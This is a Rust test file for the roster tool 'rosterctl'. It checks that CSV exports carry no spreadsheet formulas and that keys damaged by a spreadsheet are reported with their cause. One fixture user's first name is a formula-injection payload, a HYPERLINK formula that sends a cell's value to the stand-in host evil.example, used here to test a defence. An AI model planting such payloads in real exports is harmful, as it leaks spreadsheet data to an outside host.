//! What `export` and `adopt` write survives a spreadsheet: no cell is a formula, and everything is read back as it was. What
//! a spreadsheet spoils is found, and the finding names the cause.

use std::path::Path;

use proptest::prelude::*;
use rosterctl::findings::source::Sources;
use rosterctl::manifest::csv_writer::csv;
use rosterctl::manifest::{self, TableForm, csv_sources};

use crate::harness::{cases_of_property, project, rosterctl, transcript};

/// A cell as it is read back from a CSV that rosterctl wrote.
fn read_back(cell: &str) -> Option<String> {
    let text = csv([
        vec!["misId".to_owned(), "website".to_owned()],
        vec!["L-1".to_owned(), cell.to_owned()],
    ]);
    let text = text.strip_prefix('\u{feff}').expect("a byte order mark");
    let mut sources = Sources::default();
    let manifest = "fromCsv: { path: x.csv }\n";
    let file = sources.add("users.yaml", manifest.to_owned());
    let (documents, _) = manifest::parse(file, manifest);
    let source = csv_sources(&documents).remove(0);
    let table = manifest::table(
        sources.add("x.csv", text.to_owned()),
        text,
        &TableForm::Csv,
        &source,
    );
    assert!(table.findings.is_empty(), "{cell:?}: {:?}", table.findings);
    let website = table.rows[0].get("website")?;
    Some(website.value.text().unwrap().to_owned())
}

/// The cells of a CSV, as a spreadsheet sees them.
fn cells(text: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut is_quoted = false;
    let mut characters = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(character) = characters.next() {
        match character {
            '"' if is_quoted && characters.next_if_eq(&'"').is_some() => {
                cells.last_mut().unwrap().push('"');
            }
            '"' => is_quoted = !is_quoted,
            ',' | '\n' if !is_quoted => cells.push(String::new()),
            character => cells.last_mut().unwrap().push(character),
        }
    }
    cells
}

fn has_formula(text: &str) -> bool {
    cells(text)
        .iter()
        .any(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']))
}

proptest! {
    #![proptest_config(cases_of_property(2_000))]

    #[test]
    fn any_cell_is_no_formula_and_is_read_back_as_it_was(cell in "['=+@\t\r\n\" ,;a-zÃ©０＝-]{0,10}|\\PC{0,12}|'{0,3}[=+@-].{0,5}") {
        prop_assume!(!cell.contains('#') && !cell.contains(['e', 'E']));
        let text = csv([vec![cell.clone()]]);
        prop_assert!(!has_formula(&text), "{text:?}");
        let kept = Some(cell.trim()).filter(|cell| !cell.is_empty());
        let read = read_back(&cell);
        prop_assert_eq!(read.as_deref(), kept);
    }
}

#[test]
fn an_apostrophe_of_a_persons_own_stays() {
    for cell in [
        "'Ivo",
        "'t Hooft",
        "'",
        "''",
        "'=1",
        "''=1",
        "-",
        "'-",
        "+44 7700 900123",
    ] {
        assert_eq!(read_back(cell).as_deref(), Some(cell));
    }
}

const SETTINGS: (&str, &str) = (
    "rosterctl.yaml",
    "organisation: 5740\ntarget: sandbox\nseverity: { look-alike: warning }\n",
);
const ACCOUNTS: (&str, &str) = (
    "sandbox.yaml",
    r#"organisations:
  - { ID: 5740, Name: Example College }
classrooms:
  - { ID: 1, OrganisationID: 5740, Name: Room }
placements:
  - { ID: 1, OrganisationID: 5740, Name: Firm }
users:
  - { ID: 1, OrganisationID: 5740, Role: 5, FirstName: Ann, LastName: Abbotsley, Email: ann@example.ac.uk, MISID: A-1 }
  - { ID: 2, OrganisationID: 5740, Role: 1, FirstName: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")", LastName: "@SUM(1)", Email: two@example.ac.uk, MISID: "00000101", DOB: "2007-06-13T23:00:00Z", MobileNumber: "+44 7700 900123", HomeAddress: "1 High St\r\nBright, \"Town\"\r\nZZ1 1AA", ClassroomID: 1, PlacementID: 1, DefaultAssessorID: 1 }
  - { ID: 3, OrganisationID: 5740, Role: 1, FirstName: "Zoë", LastName: "O'Fernhollow", Email: three@example.ac.uk, MISID: "00000102", ClassroomID: 1, PlacementID: 1, DefaultAssessorID: 1 }
  - { ID: 4, OrganisationID: 5740, Role: 1, FirstName: " - ", LastName: "Null", Email: four@example.ac.uk, MISID: "No", ClassroomID: 1, PlacementID: 1, DefaultAssessorID: 1 }
  - { ID: 5, OrganisationID: 5740, Role: 1, FirstName: "'Ivo", LastName: "x: y # z", Email: five@example.ac.uk, MISID: "1e5", WorkAddress: "'=not a formula", ClassroomID: 1, PlacementID: 1, DefaultAssessorID: 1 }
  - { ID: 6, OrganisationID: 5740, Role: 1, FirstName: "Siân", LastName: "-Dunmarrow", Email: six@example.ac.uk, MISID: "Siân6", Telephone: "-", ClassroomID: 1, PlacementID: 1, DefaultAssessorID: 1 }
"#,
);
const OVERLAY: &str = "private/personal.csv";

fn run(folder: &Path, args: &str) -> String {
    transcript(rosterctl().current_dir(folder).args(args.split(' '))).replace("\n  ", " ")
}

fn exported() -> (tempfile::TempDir, String) {
    let folder = project(&[SETTINGS, ACCOUNTS]);
    let said = run(folder.path(), "export --overlay private/personal.csv");
    assert!(said.ends_with("exit 0\n"), "{said}");
    let text = std::fs::read_to_string(folder.path().join(OVERLAY)).unwrap();
    (folder, text)
}

#[test]
fn an_exported_overlay_holds_no_formula_and_a_plan_of_it_says_no_changes() {
    let (folder, text) = exported();
    assert!(text.starts_with("\u{feff}misId,"), "{text}");
    assert!(!has_formula(&text), "{text}");
    for cell in [
        "'=HYPERLINK",
        "'@SUM(1)",
        "'+44 7700 900123",
        "'-Dunmarrow",
        "'Ivo",
        "''=not a formula",
    ] {
        assert!(text.contains(cell), "{cell}: {text}");
    }
    let planned = run(folder.path(), "plan --detailed-exitcode");
    assert!(
        planned.starts_with("No changes: ") && planned.ends_with("exit 0\n"),
        "{planned}"
    );
    // As Excel saves it again: other line ends, and semicolons in some countries.
    std::fs::write(folder.path().join(OVERLAY), text.replace('\n', "\r\n")).unwrap();
    let planned = run(folder.path(), "plan --detailed-exitcode");
    assert!(planned.ends_with("exit 0\n"), "{planned}");
}

#[test]
fn keys_that_a_spreadsheet_spoilt_are_named_with_the_cause() {
    let (folder, text) = exported();
    for (from, to, words) in [
        (
            "00000101,",
            "101,",
            "1 row has a `misId` that lost its leading zeros: `101` for `00000101`",
        ),
        (
            "1e5,",
            "100000,",
            "1 row has a `misId` that a spreadsheet took for a number: `100000` for `1e5`",
        ),
        (
            "Siân6,",
            "SiÃ¢n6,",
            "1 row has a `misId` that was read or saved in the wrong encoding: `SiÃ¢n6` for `Siân6`",
        ),
        (
            "Siân6,",
            "Si√¢n6,",
            "in the wrong encoding: `Si√¢n6` for `Siân6`",
        ),
        (
            "No,",
            "no,",
            "that differs from a declared one only by case, blanks or zeros: `no` for `No`",
        ),
        (
            "No,",
            "X-9,",
            "1 row with a `misId` that no manifest declares",
        ),
    ] {
        std::fs::write(folder.path().join(OVERLAY), text.replace(from, to)).unwrap();
        let said = run(folder.path(), "validate --format json");
        assert!(
            said.contains("overlay-stranger") && said.contains(words),
            "{words}: {said}"
        );
    }
    // Several at once are one finding, and what is like no declared key has its own.
    let spoilt = text
        .replace("00000101,", "101,")
        .replace("00000102,", "102,")
        .replace("No,", "X-9,");
    std::fs::write(folder.path().join(OVERLAY), spoilt).unwrap();
    let said = run(folder.path(), "validate --format json");
    assert!(said.contains("2 rows have a `misId` that lost its leading zeros: `101` for `00000101`, `102` for `00000102`"), "{said}");
    assert!(
        said.contains("1 row with a `misId` that no manifest declares"),
        "{said}"
    );
}

#[test]
fn a_key_that_may_be_that_of_several_users_is_nobodys() {
    let files = [
        SETTINGS,
        (
            "users/a.yaml",
            "defaults: { role: assessor, firstName: Ann, lastName: Abbotsley }\nusers:\n  - { misId: \"0102\", email: a@example.ac.uk }\n  - { misId: \"00102\", email: b@example.ac.uk, lastName: Birdwhistle }\n",
        ),
        (
            "users/o.yaml",
            "fromCsv: { path: ../o.csv, overlay: true }\n",
        ),
        ("o.csv", "misId,website\n102,example.ac.uk\n"),
    ];
    let folder = project(&files);
    let said = run(folder.path(), "validate --format json");
    assert!(
        said.contains("1 row with a `misId` that no manifest declares"),
        "{said}"
    );
}
